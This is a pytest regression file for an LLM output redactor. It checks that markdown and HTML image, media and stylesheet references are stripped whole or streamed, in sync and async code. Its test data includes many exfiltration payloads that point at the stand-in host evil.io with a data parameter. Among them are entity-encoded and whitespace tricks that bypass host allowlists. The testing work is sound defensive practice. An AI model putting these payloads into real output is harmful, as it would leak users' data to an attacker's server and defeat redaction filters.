"""Regression tests: every image bullet of issue #15 "Why", invoke and stream.

Each text really fetches an outside host when rendered unredacted (checked), and
fetches nothing outside the allowlist once redacted, whole or streamed in any
chunking, sync and async.
"""

from __future__ import annotations

import doctest
from types import ModuleType
from typing import Any

import pytest
from image_corpus import ALLOWED, DATA, bad_fetches

from langchain_mistral_secure.detection import (
    content,
    content_html,
    content_markdown,
    content_urls,
)
from langchain_mistral_secure.redactor import OutputRedactor

URL = f"https://evil.io/x.png?d={DATA}"
DEFAULT = OutputRedactor()
ALLOWING = OutputRedactor(image_host_allowlist=list(ALLOWED))

MARKDOWN = {
    "alt-over-90": "![" + "chart of the quarter " * 5 + f"]({URL})",
    "nested-brackets": f"![a [nested] alt]({URL})",
    "newline-in-alt": f"![first\nsecond]({URL})",
    "spaces-after-paren": "![a](" + " " * 12 + URL + ")",
    "entity-scheme": f"![a](&#104;ttps://evil.io/x.png?d={DATA})",
    "entity-colon": f"![a](https&#58;//evil.io/x.png?d={DATA})",
    "backslash-colon": f"![a](https\\://evil.io/x.png?d={DATA})",
    "no-slashes": f"![a](http:evil.io/x.png?d={DATA})",
    "shortcut-reference": f"![logo]\n\n[logo]: {URL}",
    "full-reference": f"![a][r]\n\n[r]: {URL}",
    "collapsed-reference": f"![logo][]\n\n[logo]: <{URL}>",
}
HTML = {
    "srcset": f'<img srcset="/a.png 1x, {URL} 2x" src="/a.png">',
    "picture-source": f'<picture><source srcset="{URL}"><img src="/a.png"></picture>',
    "attributes-before-src": "<img "
    + " ".join(f'data-n{n}="{n}"' for n in range(20))
    + f' src="{URL}">',
    "video-poster": f'<video poster="{URL}"></video>',
    "input-image": f'<input type="image" src="{URL}">',
    "stylesheet-link": f'<link rel="stylesheet" href="{URL}">',
    "css-url": f"<div style=\"background:url('{URL}')\">x</div>",
    "svg-image": f'<svg><image href="{URL}"/></svg>',
    "audio": f'<audio src="{URL}"></audio>',
}
ALLOWLIST_BYPASS = {
    "entity-dot": f'<img src="https://acme.com&#46;evil.io/x.png?d={DATA}">',
    "entity-at": f'<img src="https://acme.com&#64;evil.io/x.png?d={DATA}">',
    "entity-tab": f'<img src="https://acme.com&#9;.evil.io/x.png?d={DATA}">',
    "raw-tab": f'<img src="https://acme.com\t.evil.io/x.png?d={DATA}">',
    "raw-newline": f'<img src="https://acme.com\n.evil.io/x.png?d={DATA}">',
    "markdown-escaped-at": f"![a](https://acme.com\\@evil.io/x.png?d={DATA})",
}
CASES = [
    *(pytest.param(DEFAULT, text, id=f"md-{name}") for name, text in MARKDOWN.items()),
    *(pytest.param(DEFAULT, text, id=f"html-{name}") for name, text in HTML.items()),
    *(
        pytest.param(ALLOWING, text, id=f"allowlist-{name}")
        for name, text in ALLOWLIST_BYPASS.items()
    ),
]


def pieces(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


async def astreamed(redactor: OutputRedactor, text: str, size: int) -> str:
    async def source() -> Any:
        for piece in pieces(text, size):
            yield piece

    return "".join([out async for out in redactor.atransform(source())])


@pytest.mark.parametrize(("redactor", "text"), CASES)
@pytest.mark.parametrize("size", [1, 7, 64])
def test_issue_case_fetches_nothing_outside(
    redactor: OutputRedactor, text: str, size: int
) -> None:
    assert bad_fetches(text), "the case must fetch an outside host unredacted"
    whole = redactor.invoke(text)
    assert bad_fetches(whole) == []
    assert DATA not in whole
    assert "".join(redactor.transform(iter(pieces(text, size)))) == whole


@pytest.mark.parametrize(("redactor", "text"), CASES)
async def test_issue_case_fetches_nothing_outside_async(
    redactor: OutputRedactor, text: str
) -> None:
    whole = await redactor.ainvoke(text)
    assert bad_fetches(whole) == []
    assert await astreamed(redactor, text, 5) == whole


@pytest.mark.parametrize("size", [1, 4, 100])
def test_broken_html_is_now_well_formed(size: int) -> None:
    text = '<img src="https://acme.com/x.png">'
    expected = "<img [MARKDOWN_IMAGE_EXFILTRATION]>"
    assert DEFAULT.invoke(text) == expected
    assert "".join(DEFAULT.transform(iter(pieces(text, size)))) == expected
    # With acme.com allowed, the element is untouched.
    assert ALLOWING.invoke(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![" + "x" * 400 + f"]({URL})",  # alt longer than the decision bound
        "![a](" + " " * 300 + f"{URL})",  # whitespace longer than a stream holds
        "<img src" + " " * 300 + f'="{URL}">',
        '<img src="' + " " * 300 + f'{URL}">',
        f"![a `]` b]({URL})",  # a code span that could hide the bracket
        f"!![a]({URL})(https://evil2.io/y.png)",  # a run of "!" before the image
        # Another detector's placeholder after "!" would read ![EMAIL](url).
        f"!alice.smith@example.com({URL})",
        f"Look!alice.smith@example.com[r]\n\n[r]: {URL}",
    ],
)
@pytest.mark.parametrize("size", [1, 13, 200])
def test_fail_closed_cases_fetch_nothing(text: str, size: int) -> None:
    whole = DEFAULT.invoke(text)
    assert bad_fetches(whole) == []
    assert "".join(DEFAULT.transform(iter(pieces(text, size)))) == whole


@pytest.mark.parametrize(
    "module", [content, content_html, content_markdown, content_urls]
)
def test_docstring_examples_run(module: ModuleType) -> None:
    result = doctest.testmod(module)
    assert result.attempted > 0
    assert result.failed == 0
